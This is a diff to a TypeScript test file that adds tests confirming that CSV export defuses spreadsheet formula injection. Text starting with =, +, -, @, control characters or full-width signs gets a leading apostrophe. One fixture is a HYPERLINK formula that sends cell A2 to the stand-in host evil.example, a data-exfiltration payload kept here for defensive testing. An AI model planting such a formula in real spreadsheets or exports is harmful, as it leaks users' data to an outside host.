@@ -1,7 +1,7 @@
 import { performance } from 'node:perf_hooks';
 import { unzipSync } from 'fflate';
 import { expect, it } from 'vitest';
-import { sheetPart, xlsxFile } from './spreadsheet';
+import { csvLines, sheetPart, xlsxFile } from './spreadsheet';
 
 it('a big workbook is made while others are answered: its thread works, this one waits', async () => {
   const part = sheetPart(
@@ -39,6 +39,33 @@ it('money and days are numbers, with arrows to filter by over every column', asy
   // a workbook stores a date as the number of days since 1900
   expect(sheet).toMatch(/<c r="C2"[^>]*><v>46064<\/v>/);
   expect(sheet).not.toContain('<f>');
+});
+
+it.each([
+  [
+    '=HYPERLINK("http://evil.example/?"&A2,"ver nota")\n.',
+    `"'=HYPERLINK(""http://evil.example/?""&A2,""ver nota"")\n."`,
+  ],
+  ['=1\u2028', "'=1\u2028"],
+  ['=1\r\n', `"'=1\r\n"`],
+  ['+55', "'+55"],
+  ['-1+1', "'-1+1"],
+  ['-1,00', "'-1,00"],
+  ['@SUM(1)', "'@SUM(1)"],
+  ['\t=1', "'\t=1"],
+  ['\r=1', `"'\r=1"`],
+  ['\n=1', `"'\n=1"`],
+  ['＝1', "'＝1"],
+  ['＋1', "'＋1"],
+  ['－1', "'－1"],
+  ['＠A', "'＠A"],
+  ['a=1', 'a=1'],
+] as const)('a text %j that a stranger sent is no formula in a CSV', (text, written) => {
+  expect(csvLines([[text]]).toString()).toBe(`${written}\r\n`);
+});
+
+it('amounts and numbers below zero are numbers in a CSV', () => {
+  expect(csvLines([[{ cents: -2500 }, { number: -3 }]]).toString()).toBe('-25,00;-3\r\n');
 });
 
 it('a thread that fails is told of', async () => {
